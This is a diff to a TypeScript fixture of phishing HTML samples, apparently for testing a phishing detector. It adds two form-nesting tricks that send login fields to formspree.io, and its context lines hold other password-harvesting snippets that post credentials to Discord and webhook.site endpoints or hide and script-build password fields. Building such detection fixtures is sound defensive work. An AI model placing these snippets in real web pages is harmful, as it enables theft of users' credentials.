@@ -47,6 +47,8 @@ export const phishing: Readonly<Record<string, string>> = {
   'a password for a hook': `<title>Invoice</title><input id="u"><input id="p" type="password"><script>const x=new XMLHttpRequest();x.open("POST","https://discord.com/api/webhooks/1/a");x.send(p.value)</script>`,
   'a button with another aim': `<form action="/ok">${fields}<button formaction="https://webhook.site/1">Open</button></form>`,
   'a field that belongs to a form elsewhere': `<form id="a" action="https://getform.io/f/1"></form><p>Password</p><input form="a" type="password">`,
+  'a form within a form': `<form action="https://formspree.io/f/1"><form action="/ok">${fields}</form>`,
+  'a form in a template before it': `<template><form action="/ok"></template><form action="https://formspree.io/f/1">${fields}</form>`,
   'a base that moves everything': `<base href="https://formspree.io/"><title>Login</title><form action="f/abc">${fields}</form>`,
   'a masked text field': `<title>OneDrive – Sign in</title><style>.p{-webkit-text-security:disc}</style><form action="x.php"><input name="e"><input class="p" name="x"></form>`,
   'a field made by a script': `<title>Dropbox – Log in</title><div id="r"></div><script>var i=document.createElement('input');i.setAttribute('type','password');r.append(i)</script>`,
